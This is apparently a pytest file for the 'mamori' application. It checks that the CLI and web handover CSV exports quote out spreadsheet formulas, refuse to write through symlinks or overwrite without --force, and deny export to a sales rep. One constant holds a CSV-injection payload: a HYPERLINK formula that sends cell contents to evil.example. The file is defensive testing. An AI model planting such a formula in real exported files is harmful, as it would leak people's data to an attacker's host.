"""Issue 17, inputs: the handover file (CLI and web) never carries a live spreadsheet formula, and the CLI's --out
never follows a symbolic link nor replaces a file without --force (checked by a separate `mamori` process and
from the file system, as an attacker on the machine would see it)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

from mamori.kernel.context import SYSTEM_ACTOR
from mamori.processors import service
from mamori.processors.schemas import CustomersIn
from mamori.staff import service as staff_service
from tests.api.conftest import Api
from tests.factories import make_customer, point_env_at
from tests.processors.conftest import add_counterparty, running_contract

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"x")'


def _formula_world(rt, actors) -> tuple[str, str]:
    cid = make_customer(rt, actors["sato"], name=FORMULA, kana="カクウ ハナコ", phone="+81-90-1111-2222")
    contract = running_contract(rt, actors["po"], add_counterparty(rt, actors["po"]))
    with rt.transaction(actors["po"]) as ctx:
        service.assign_customers(ctx, contract, CustomersIn(customer_ids=[cid]))
    return cid, contract


def _mamori(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "mamori", *args],
        capture_output=True,
        text=True,
        env=os.environ.copy(),
        timeout=120,
    )


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_handover_cli_writes_no_formula_and_never_through_a_link(runtime, actors, monkeypatch, tmp_path):
    cid, contract = _formula_world(runtime, actors)
    point_env_at(monkeypatch, runtime.settings)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    link = tmp_path / "handover.csv"
    link.symlink_to(victim)
    r = _mamori("--as", "po", "processors", "handover", contract, "--out", str(link))
    assert r.returncode != 0 and r.stderr.strip().count("\n") == 0 and "file_exists" in r.stderr
    assert victim.read_text() == "precious\n" and link.is_symlink()
    with runtime.transaction(actors["po"], readonly=True) as ctx:
        assert service.list_handovers(ctx, contract) == []  # refused before anything was handed over
    # a sales rep may not hand over at all (R-23-2), and writes nothing
    other = tmp_path / "rep.csv"
    r = _mamori("--as", "sato", "processors", "handover", contract, "--out", str(other))
    assert r.returncode == 3 and "R-23-2" in r.stderr and not other.exists()
    # with --force the link itself is replaced; the file it pointed at is untouched
    r = _mamori("--as", "po", "processors", "handover", contract, "--out", str(link), "--force")
    assert r.returncode == 0, r.stderr
    assert victim.read_text() == "precious\n" and not link.is_symlink()
    assert (link.stat().st_mode & 0o777) == 0o600
    (row,) = _rows(link.read_text(encoding="utf-8"))
    assert row["customer_id"] == cid and row["name"] == "'" + FORMULA
    assert row["phones"].startswith("'+81")  # a phone in E.164 would be read as a formula: quoted too
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_the_handover_download_carries_no_formula(runtime):
    api = Api(runtime)  # its own staff (po, sato, …) with passwords and TOTP, for the pages
    with runtime.transaction(SYSTEM_ACTOR, readonly=True) as ctx:
        actors = {u: staff_service.actor_for(ctx, u) for u in ("po", "sato")}
    cid, contract = _formula_world(runtime, actors)
    po, csrf = api.client("po")
    r = po.post(f"/outsourcees/{contract}/handover", data={"csrf": csrf, "fields": ["name", "phones"]})
    assert r.status_code == 200, r.text
    (row,) = _rows(r.content.decode("utf-8-sig"))
    assert row == {"customer_id": cid, "name": "'" + FORMULA, "phones": row["phones"]}
    assert row["phones"].startswith("'+81")
    # a sales rep gets the refusal page, not the file
    rep, rcsrf = api.client("sato")
    r = rep.post(f"/outsourcees/{contract}/handover", data={"csrf": rcsrf, "fields": ["name"]})
    assert r.status_code == 403 and "text/csv" not in r.headers["content-type"]
